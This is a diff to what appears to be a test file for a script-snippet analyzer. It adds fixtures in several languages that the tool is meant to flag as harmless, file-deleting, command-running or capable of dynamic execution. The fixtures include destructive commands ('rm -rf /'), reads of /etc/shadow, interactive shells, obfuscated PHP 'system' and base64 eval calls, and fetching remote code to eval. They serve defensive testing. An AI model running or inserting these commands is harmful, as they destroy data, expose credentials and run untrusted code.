@@ -28,12 +28,16 @@ HARMLESS = [
     ("node", "[1,2].map(x=>x*2)"),
     ("node", "console.log(`${1+1}`)"),
     ("node", "/x/.exec('x')"),
+    ("php", 'echo implode(",", array_map("trim", ["a"]));'),
     ("php", "echo json_encode([1,2]);"),
     ("lua", 'print(string.format("%d",1))'),
     ("r", "cat(mean(c(1,2)))"),
     ("osascript", 'display dialog "Hello"'),
 ]
 EFFECTS = [
+    ("deno", 'Deno.removeSync("d", {recursive: true})', ("delete", "d", {"recursive"})),
+    ("r", 'unlink("d", recursive=TRUE)', ("delete", "d", {"recursive"})),
+    ("pwsh", "gci d -Recurse | Remove-Item", ("delete", "d", {"recursive"})),
     ("sed", "s/foo/bar/w out", ("write", "out", set())),
     ("sed", "r /etc/shadow", ("read", "/etc/shadow", set())),
     ("awk", '{print > "out.txt"}', ("write", "out.txt", set())),
@@ -66,6 +70,8 @@ RUNS = [
     ("node", "require('child_process').execSync('rm -rf /')", "rm -rf /"),
     ("node", "process.chdir('/'); require('child_process').spawnSync('rm',['-rf','.'])", "cd / && { rm -rf .\n}"),
     ("bun", "Bun.spawnSync(['rm','-rf','.'],{cwd:'/'})", "cd / && { rm -rf .\n}"),
+    ("node", 'require("child_process").exec("ls")', "ls"),
+    ("bun", "await Bun.$`ls`", "ls"),
     ("php", 'system("/bin/sh -i");', "/bin/sh -i"),
     ("php", "echo `ls`;", "ls"),
     ("lua", 'os.execute("/bin/sh")', "/bin/sh"),
@@ -84,7 +90,10 @@ CAPABLE = [
     ("node", 'fetch("http://x").then(r=>r.text()).then(eval)'),
     ("php", '$f="sys"."tem"; $f("ls");'),
     ("php", 'eval(base64_decode("x"));'),
+    ("php", 'array_map("unlink", $x);'),
     ("powershell", "iex $x"),
+    ("osascript", 'ObjC.import("stdlib"); $.system("ls")'),
+    ("swift", 'FileManager.default.removeItem(atPath: "x")'),
 ]
 
 
